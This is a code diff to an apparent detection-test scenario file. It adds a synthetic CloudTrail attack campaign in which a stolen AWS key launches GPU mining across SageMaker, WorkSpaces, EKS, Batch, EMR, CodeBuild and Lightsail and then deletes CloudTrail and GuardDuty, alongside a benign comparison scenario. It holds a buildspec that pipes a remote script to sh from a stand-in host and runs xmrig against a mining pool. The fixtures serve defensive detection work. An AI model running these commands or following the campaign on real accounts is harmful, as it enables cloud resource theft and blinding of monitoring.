@@ -677,6 +677,182 @@ def blinding_campaign() -> Scenario:
     return s
 
 
+XMRIG_BUILD = (
+    "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -sL https://example.invalid/x.sh | sh\n"
+    "      - ./xmrig -o stratum+tcp://gulf.moneroocean.stream:10128 -u 4A... --threads $(nproc --all)\n"
+)
+
+
+def beyond_ec2_campaign() -> Scenario:
+    """Seed 000 names SageMaker instances and GPU WorkSpaces as mining targets besides EC2: the same stolen key
+    rents GPUs through every managed service it can reach, then blinds the trail and GuardDuty. Request fields as
+    each service's CloudTrail entries carry them."""
+    c = Clock("2025-11-07T02:00:00Z")
+    r, u = "us-east-1", STOLEN_USER
+
+    def ct(name: str, service: str, params: dict) -> dict:
+        return eventbridge(cloudtrail(c, name, service, params, region=r, identity=u))
+
+    lifecycle = {"notebookInstanceLifecycleConfigName": "on-start", "onStart": [{"content": b64(SEED_002_MINER)}]}
+    s = Scenario("beyond_ec2", "GPUs through SageMaker, WorkSpaces and managed clusters, then blinding", "000", True)
+    s.steps += [
+        Step(
+            "SageMaker lifecycle script with a miner + notebook on ml.p3.16xlarge",
+            "000: SageMaker GPU notebook instances",
+            [
+                ct("CreateNotebookInstanceLifecycleConfig", "sagemaker", lifecycle),
+                ct(
+                    "CreateNotebookInstance",
+                    "sagemaker",
+                    {
+                        "notebookInstanceName": "research",
+                        "instanceType": "ml.p3.16xlarge",
+                        "roleArn": f"arn:aws:iam::{ACCOUNT}:role/sagemaker-exec",
+                        "lifecycleConfigName": "on-start",
+                    },
+                ),
+            ],
+            ("CG-PAYLOAD-002", "CG-SAGEMAKER-001"),
+        ),
+        Step(
+            "CreateTrainingJob 8 x ml.p4d.24xlarge",
+            "000: SageMaker training on the largest GPUs",
+            [
+                ct(
+                    "CreateTrainingJob",
+                    "sagemaker",
+                    {
+                        "trainingJobName": "bert-finetune-7",
+                        "resourceConfig": {"instanceType": "ml.p4d.24xlarge", "instanceCount": 8, "volumeSizeInGB": 50},
+                        "stoppingCondition": {"maxRuntimeInSeconds": 432000},
+                    },
+                )
+            ],
+            ("CG-SAGEMAKER-001",),
+        ),
+        Step(
+            "CreateWorkspaces x12 GRAPHICS_G4DN",
+            "000: GPU WorkSpaces",
+            [
+                ct(
+                    "CreateWorkspaces",
+                    "workspaces",
+                    {
+                        "workspaces": [
+                            {
+                                "directoryId": "d-906732325d",
+                                "userName": f"svc{i:02d}",
+                                "bundleId": "wsb-gm4d5tx2v",
+                                "workspaceProperties": {"runningMode": "ALWAYS_ON", "computeTypeName": "GRAPHICS_G4DN"},
+                            }
+                            for i in range(12)
+                        ]
+                    },
+                )
+            ],
+            ("CG-WORKSPACES-001",),
+        ),
+        Step(
+            "EKS CreateNodegroup g5.12xlarge, maxSize 500",
+            "000: GPU nodes behind a cluster",
+            [
+                ct(
+                    "CreateNodegroup",
+                    "eks",
+                    {
+                        "name": "prod",
+                        "nodegroupName": "batch-gpu",
+                        "instanceTypes": ["g5.12xlarge"],
+                        "capacityType": "SPOT",
+                        "scalingConfig": {"minSize": 0, "maxSize": 500, "desiredSize": 50},
+                    },
+                )
+            ],
+            ("CG-EKS-001",),
+        ),
+        Step(
+            "Batch CreateComputeEnvironment p3, maxvCpus 10,000",
+            "000: Batch sized for a fleet",
+            [
+                ct(
+                    "CreateComputeEnvironment",
+                    "batch",
+                    {
+                        "computeEnvironmentName": "render",
+                        "type": "MANAGED",
+                        "computeResources": {"type": "SPOT", "maxvCpus": 10000, "instanceTypes": ["p3"]},
+                    },
+                )
+            ],
+            ("CG-BATCH-001",),
+        ),
+        Step(
+            "EMR RunJobFlow with 40 x g4dn.4xlarge core nodes",
+            "000: EMR as a GPU fleet",
+            [
+                ct(
+                    "RunJobFlow",
+                    "elasticmapreduce",
+                    {
+                        "name": "spark-etl",
+                        "releaseLabel": "emr-7.2.0",
+                        "instances": {
+                            "instanceGroups": [
+                                {"instanceRole": "MASTER", "instanceType": "m5.xlarge", "instanceCount": 1},
+                                {"instanceRole": "CORE", "instanceType": "g4dn.4xlarge", "instanceCount": 40},
+                            ]
+                        },
+                    },
+                )
+            ],
+            ("CG-EMR-001",),
+        ),
+        Step(
+            "CodeBuild StartBuild on BUILD_GENERAL1_2XLARGE with an xmrig buildspec",
+            "000: builds as miners",
+            [
+                ct(
+                    "StartBuild",
+                    "codebuild",
+                    {
+                        "projectName": "web",
+                        "computeTypeOverride": "BUILD_GENERAL1_2XLARGE",
+                        "buildspecOverride": XMRIG_BUILD,
+                    },
+                )
+            ],
+            ("CG-CODEBUILD-001", "CG-PAYLOAD-002"),
+        ),
+        Step(
+            "Lightsail CreateInstances x30",
+            "000: fixed-price boxes by the dozen",
+            [
+                ct(
+                    "CreateInstances",
+                    "lightsail",
+                    {
+                        "instanceNames": [f"node-{i}" for i in range(30)],
+                        "availabilityZone": "us-east-1a",
+                        "blueprintId": "ubuntu_22_04",
+                        "bundleId": "medium_3_0",
+                    },
+                )
+            ],
+            ("CG-LIGHTSAIL-001",),
+        ),
+        Step(
+            "DeleteTrail + GuardDuty DeleteDetector",
+            "000: the trail and GuardDuty gone",
+            [
+                ct("DeleteTrail", "cloudtrail", {"name": f"arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/org-trail"}),
+                ct("DeleteDetector", "guardduty", {"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}),
+            ],
+            ("CG-TAMPER-001", "CG-TAMPER-002"),
+        ),
+    ]
+    return s
+
+
 def benign_scenarios() -> list[Scenario]:
     c = Clock("2025-11-03T01:00:00Z", step_seconds=30)
     tokyo = "ap-northeast-1"
@@ -851,11 +1027,55 @@ def benign_scenarios() -> list[Scenario]:
             ),
         ],
     )
-    return [deploy, scale_out, pipeline, admin]
+    science = Scenario(
+        "data_science_team",
+        "A data scientist's notebook, a small training job, a build and a node group",
+        "-",
+        False,
+        [
+            Step(
+                "Notebook ml.t3.medium + training 2 x ml.m5.xlarge",
+                "-",
+                [
+                    ct(
+                        "CreateNotebookInstance",
+                        "sagemaker",
+                        {"notebookInstanceName": "eda", "instanceType": "ml.t3.medium"},
+                    ),
+                    ct(
+                        "CreateTrainingJob",
+                        "sagemaker",
+                        {
+                            "trainingJobName": "churn-3",
+                            "resourceConfig": {"instanceType": "ml.m5.xlarge", "instanceCount": 2},
+                        },
+                    ),
+                ],
+            ),
+            Step(
+                "CodeBuild StartBuild (small) + EKS node group m5.large max 10",
+                "-",
+                [
+                    ct("StartBuild", "codebuild", {"projectName": "api", "sourceVersion": "refs/heads/main"}),
+                    ct(
+                        "CreateNodegroup",
+                        "eks",
+                        {
+                            "name": "prod",
+                            "nodegroupName": "web",
+                            "instanceTypes": ["m5.large"],
+                            "scalingConfig": {"minSize": 2, "maxSize": 10, "desiredSize": 2},
+                        },
+                    ),
+                ],
+            ),
+        ],
+    )
+    return [deploy, scale_out, pipeline, admin, science]
 
 
 def attack_scenarios() -> list[Scenario]:
-    return [nov2025_campaign(), meson_campaign(), unused_region_gpu(), blinding_campaign()]
+    return [nov2025_campaign(), meson_campaign(), unused_region_gpu(), blinding_campaign(), beyond_ec2_campaign()]
 
 
 def all_scenarios() -> list[Scenario]:
